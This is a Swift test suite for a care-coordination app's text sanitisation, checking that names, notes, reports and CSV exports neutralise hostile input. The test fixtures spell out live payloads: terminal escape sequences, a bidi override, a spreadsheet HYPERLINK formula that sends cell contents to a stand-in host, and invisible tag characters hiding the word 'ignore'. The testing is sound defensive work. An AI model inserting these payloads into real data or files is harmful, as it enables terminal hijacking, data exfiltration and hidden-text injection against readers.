import Foundation
import LiaisonTestSupport
import Testing
@testable import LiaisonCore

/// Text typed to attack whoever reads it next: a terminal, a spreadsheet, a Markdown renderer.
enum Hostile {
    /// Sets the terminal's title, then clears the screen: what a name did to `liaison report`.
    static let terminalEscape = "Edith\u{1B}]0;pwned\u{07}\u{1B}[2J Brown"
    /// Reverses what follows, so "Brown" reads backwards and a file name could hide its type.
    static let bidiOverride = "Edith \u{202E}nworB"
    /// A C1 control (CSI) that some terminals obey like ESC [.
    static let c1 = "Edith\u{9B}2J"
    /// A spreadsheet formula that would call out when the CSV is opened.
    static let formula = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"open\")"
    /// Every active character at once.
    static let all = [terminalEscape, bidiOverride, c1, "tab\there", "del\u{7F}", "zwsp\u{200B}", "line\u{2028}sep"]
}

@Suite struct InertTextTests {
    @Test func controlsAndInvisibleFormattingAreShownNotObeyed() {
        #expect(InertText.visible(Hostile.terminalEscape) == "Edith␛]0;pwned␇␛[2J Brown")
        #expect(InertText.visible(Hostile.bidiOverride) == "Edith \\u{202E}nworB")
        #expect(InertText.visible(Hostile.c1) == "Edith\\u{9B}2J")
        #expect(InertText.visible("a\nb") == "a␤b")
        #expect(InertText.visible("a\r\nb", keepingLineBreaks: true) == "a\r\nb")
        #expect(InertText.visible("a\rb", keepingLineBreaks: true) == "a␍b")
        #expect(InertText.visible("del\u{7F}") == "del␡")
        for text in Hostile.all {
            #expect(!InertText.visible(text).unicodeScalars.contains(where: InertText.isActive), "\(text.debugDescription)")
        }
    }

    @Test func writingThatNeedsJoinersIsLeftAlone() {
        for text in ["👩‍⚕️", "می‌خواهم", "क्‍ष", "王秀英", "Zoë", "🏴󠁧󠁢󠁳󠁣󠁴󠁿"] {
            #expect(InertText.visible(text) == text)
        }
    }

    @Test func blankMeansNothingVisible() {
        for text in ["", "   ", "\u{200B}\u{200B}", "\u{202E}", "\u{FEFF}\u{2060}", "\u{3164}", "\u{115F}\u{1160}", "\u{2800}", "\u{200D}"] {
            #expect(InertText.isBlank(text), "\(text.debugDescription)")
        }
        #expect(!InertText.isBlank("\u{200B}A"))
    }

    @Test func jsonEscapesWhatJSONItselfLeavesRaw() throws {
        let raw = "\(Hostile.bidiOverride) \(Hostile.c1) del\u{7F} \u{2028}"
        let encoded = String(decoding: try JSONEncoder().encode([raw]), as: UTF8.self)
        let escaped = InertText.escapingJSON(encoded)
        #expect(!escaped.unicodeScalars.contains(where: InertText.isActive))
        #expect(escaped.contains("\\u202e"))
        #expect(try JSONDecoder().decode([String].self, from: Data(escaped.utf8)) == [raw])
    }
}

@Suite struct OneLineFieldTests {
    @Test func aNameRefusesLineBreaksControlsAndOverrides() throws {
        let f = try Fixture()
        for name in ["Edith\nHANDOVER FOR FRIDAY", "Edith\rBrown", Hostile.terminalEscape, Hostile.bidiOverride, Hostile.c1, "Edith\u{2028}Brown"] {
            let error = fieldError { try f.store.addPerson(PersonDraft(name: name)) }
            #expect(error?.field == "name", "\(name.debugDescription)")
        }
        #expect(f.store.people.isEmpty)
    }

    /// One letter carrying thousands of accents is one character, so it passed a length
    /// counted in characters: a partner's name of 3.5 million marks made a 21 MB handover
    /// (review). Writing that stacks a few marks, and emoji of many code points, are kept.
    @Test func marksStackedOnACharacterAreRefusedWritingIsKept() throws {
        let f = try Fixture()
        let stacked = "Dr Zed" + String(repeating: "\u{0301}", count: 60_000)
        let error = fieldError { _ = try f.store.addPartner(PartnerDraft(name: stacked, role: .gp)) }
        #expect(error?.field == "name" && error?.message.contains("accents or marks stacked on it") == true, "\(String(describing: error))")
        #expect(TextRules.textProblem("Ring " + String(repeating: "a\u{0301}\u{0323}", count: 40) + " 01632 960123", what: "The advice") == nil)
        #expect(TextRules.textProblem(String(repeating: "👨🏽‍👩🏽‍👧🏽‍👦🏽", count: 100), what: "The advice") == nil)
        #expect(TextRules.textProblem("Nguyễn Thị Lan", what: "The name") == nil)
        #expect(f.store.partners.isEmpty)
    }

    /// Tag characters spelling hidden words after a name, and bytes that were not UTF-8 (read
    /// as "�"), are refused in names and in text; a flag made of tags is kept.
    @Test func hiddenTagsAndUnreadableBytesAreRefused() throws {
        let f = try Fixture()
        let hidden = "Ann" + "ignore".unicodeScalars.map { String(UnicodeScalar(0xE0000 + $0.value)!) }.joined()
        for (name, words) in [(hidden, "invisible tag characters outside a flag"), ("Bad\u{FFFD}\u{FFFD}UTF", "not readable (not UTF-8)")] {
            let error = fieldError { try f.store.addPerson(PersonDraft(name: name)) }
            #expect(error?.field == "name" && error?.message.contains(words) == true, "\(String(describing: error))")
        }
        #expect(TextRules.textProblem("Rest, then \(hidden)", what: "The advice")?.contains("tag characters") == true)
        #expect(TextRules.textProblem("Rest 🏴\u{E0067}", what: "The advice") == nil, "tags after a flag are the flag's")
        _ = try f.store.addPerson(PersonDraft(name: "Rhys 🏴󠁧󠁢󠁷󠁬󠁳󠁿 Evans"))
        #expect(f.store.people.map(\.name) == ["Rhys 🏴󠁧󠁢󠁷󠁬󠁳󠁿 Evans"])
    }

    @Test func aNameOfOnlyInvisibleCharactersIsRefusedLikeAnEmptyOne() throws {
        let f = try Fixture()
        let error = fieldError { try f.store.addPerson(PersonDraft(name: "\u{200B}\u{202E}\u{FEFF}")) }
        #expect(error?.field == "name")
        #expect(error?.message.contains("empty") == true)
    }

    @Test func lengthsAreBoundedWithAMessage() throws {
        let f = try Fixture()
        let error = fieldError { try f.store.addPerson(PersonDraft(name: String(repeating: "a", count: 5_000))) }
        #expect(error?.message.contains("longer than 120 characters") == true)
        let person = try f.person()
        let partner = try f.partner()
        let long = fieldError { _ = try f.contact(person, partner, summary: String(repeating: "word ", count: 5_000)) }
        #expect(long?.field == "summary")
    }

    @Test func everyOneLineFieldIsChecked() throws {
        let f = try Fixture()
        let person = try f.person()
        #expect(fieldError { try f.store.addPartner(PartnerDraft(name: "Dr Patel", role: .gp, organisation: "A\nB")) }?.field == "org")
        #expect(fieldError { try f.store.addTask(TaskDraft(title: "Call\u{1B}[2J", due: Fixture.start)) }?.field == "title")
        #expect(fieldError { try f.store.addTask(TaskDraft(title: "Call", owner: "Sam\nCarter", due: Fixture.start)) }?.field == "owner")
        #expect(fieldError {
            try f.store.raiseEscalation(EscalationDraft(kind: .disagreement, summary: "Visit refused", personID: person.id, manager: "Rosa\u{202E}"))
        }?.field == "manager")
        #expect(throws: FieldError.self) { try Store.open(path: "/nonexistent/x.sqlite", staff: "Ann\nBoleyn") }
    }

    @Test func multiLineTextKeepsLineBreaksButRefusesControls() throws {
        let f = try Fixture()
        let person = try f.person(), partner = try f.partner()
        let contact = try f.contact(person, partner, summary: "Rang\r\nabout the cough", advice: "Line one\nLine two")
        #expect(contact.summary == "Rang\nabout the cough")
        #expect(fieldError { _ = try f.contact(person, partner, summary: "Rang \u{1B}[2J") }?.field == "summary")
    }

    @Test func anAmendmentCannotBringAControlIn() throws {
        let f = try Fixture()
        var person = try f.person()
        person.name = Hostile.terminalEscape
        #expect(fieldError { try f.store.amend(person, reason: "typo") }?.field == "name")
    }
}

/// Reports of a store whose text predates the rules (or was written by another program).
@Suite struct InertReportTests {
    /// A store holding hostile text in every one-line and multi-line field a report shows.
    static func hostileReport() throws -> HandoverReport {
        let fixture = try ReportFixture()
        let store = fixture.store
        try store.database.write { db in
            for var person in try RecordTable.fetchAll(Person.self, db) {
                person.name = Hostile.terminalEscape + "\nHANDOVER FOR FRIDAY"
                try RecordTable.replace(person, db)
            }
            for var contact in try RecordTable.fetchAll(Contact.self, db) {
                contact.summary = Hostile.formula + " " + Hostile.bidiOverride
                contact.advice = Hostile.c1 + "\u{7F}"
                try RecordTable.replace(contact, db)
            }
        }
        try store.reload()
        return try fixture.report()
    }

    @Test func everyHumanFormatShowsControlsAndNeverEmitsThem() throws {
        let report = try Self.hostileReport()
        for format in [ReportFormat.text, .markdown, .csv] {
            let out = try format.render(report)
            let active = out.unicodeScalars.filter { InertText.isActive($0) && $0 != "\n" && $0 != "\r" }
            #expect(active.isEmpty, "\(format): \(active.map { String($0.value, radix: 16) })")
            #expect(out.contains("pwned␇␛"), "\(format)")
            // A stored line break in a name never starts a line of its own.
            #expect(!out.split(separator: "\n").contains { $0.hasPrefix("HANDOVER FOR FRIDAY") }, "\(format)")
        }
    }

    @Test func jsonEscapesThemAndStaysLossless() throws {
        let report = try Self.hostileReport()
        let json = try report.json()
        #expect(!json.unicodeScalars.contains { InertText.isActive($0) && $0 != "\n" })
        let back = try HandoverReport.jsonDecoder.decode(HandoverReport.self, from: Data(json.utf8))
        #expect(back.contacts.first?.person.hasPrefix(Hostile.terminalEscape) == true)
        #expect(back.contacts.first?.summary.hasSuffix(Hostile.bidiOverride) == true)
    }
}

@Suite struct SpreadsheetCellTests {
    @Test func formulaTriggersAreNeutralisedAsOWASPAdvises() {
        for trigger in ["=", "+", "-", "@", "\t", "\r"] {
            let cell = SpreadsheetCell.neutralised(trigger + "SUM(A1:A9)")
            #expect(cell.hasPrefix("'"), "\(trigger.debugDescription)")
        }
        #expect(SpreadsheetCell.neutralised("Edith Brown") == "Edith Brown")
        #expect(SpreadsheetCell.neutralised("") == "")
        #expect(RFC4180.field(Hostile.formula) == "\"'=HYPERLINK(\"\"http://example.invalid/?\"\"&A1,\"\"open\"\")\"")
    }

    /// Found by the fuzz tests: a `"` followed by a joiner or a combining mark is one Character,
    /// which Character-wise replacing left undoubled, so the cell ended early and what followed
    /// became cells of its own. Escaping now works scalar by scalar.
    @Test func aQuoteFollowedByAJoinerIsStillDoubled() throws {
        for cell in ["\"\u{200C}", "\"\u{301},=cmd()", "x\"\u{200D}\"\u{308}"] {
            let rows = try #require(RFC4180Reader.parse(RFC4180.record([cell, "next"])))
            #expect(rows == [[SpreadsheetCell.neutralised(cell), "next"]])
        }
        #expect(MarkdownTable.escape("a|\u{301}b") == "a\\|\u{301}b")
    }

    @Test func theReportsCSVHasNoCellAFormulaCouldStartIn() throws {
        let csv = try InertReportTests.hostileReport().csv()
        let rows = try #require(RFC4180Reader.parse(csv))
        for cell in rows.dropFirst().flatMap({ $0 }) {
            #expect(!(cell.first.map { "=+-@\t\r".contains($0) } ?? false), "\(cell)")
        }
        #expect(rows.dropFirst().flatMap { $0 }.contains { $0.hasPrefix("'=HYPERLINK") })
    }

    @Test func theExportsCSVIsNeutralisedToo() throws {
        let f = try Fixture()
        _ = try f.store.addPerson(PersonDraft(name: Hostile.formula))
        _ = try f.store.addPartner(PartnerDraft(name: "+44 is not a formula", role: .gp, phone: "+44 1632 960000"))
        let csv = try f.store.exportCSV()
        #expect(csv.contains("\"'=HYPERLINK("))
        #expect(csv.contains("'+44 1632 960000"))
        #expect(!csv.contains(",=HYPERLINK") && !csv.contains(",+44"))
    }
}

@Suite struct ErrorWordsTests {
    /// What reaches a screen or stderr is never Swift's own description of an error.
    @Test func noSwiftDescriptionReachesAUser() throws {
        struct Odd: Error {}
        var errors: [any Error] = [Odd(), StoreError("The store \u{1B}[2J is busy")]
        do { _ = try JSONDecoder().decode(Person.self, from: Data("{}".utf8)) } catch { errors.append(error) }
        for error in errors {
            let words = ErrorWords.describe(error)
            #expect(!words.isEmpty)
            for swiftism in ["DecodingError", "CodingKeys", "Odd", "keyNotFound", "\u{1B}"] { #expect(!words.contains(swiftism), "\(words)") }
        }
    }
}

@Suite struct InertTextShortcutTests {
    /// The ASCII shortcut gives, for every ASCII scalar, the answer of the rule it stands for:
    /// controls, and Unicode's format and separator categories.
    @Test func asciiIsActiveExactlyWhereTheGeneralRuleSaysSo() {
        for value in UInt32(0)..<0x80 {
            let scalar = Unicode.Scalar(value)!
            let general = value < 0x20 || value == 0x7F
                || [.format, .lineSeparator, .paragraphSeparator, .control].contains(scalar.properties.generalCategory)
            #expect(InertText.isActive(scalar) == general, "U+\(String(value, radix: 16))")
        }
        #expect(InertText.isActive("\u{85}") && InertText.isActive("\u{9F}") && InertText.isActive("\u{202E}"))
        #expect(!InertText.isActive("\u{A0}") && !InertText.isActive("é"))
    }
}

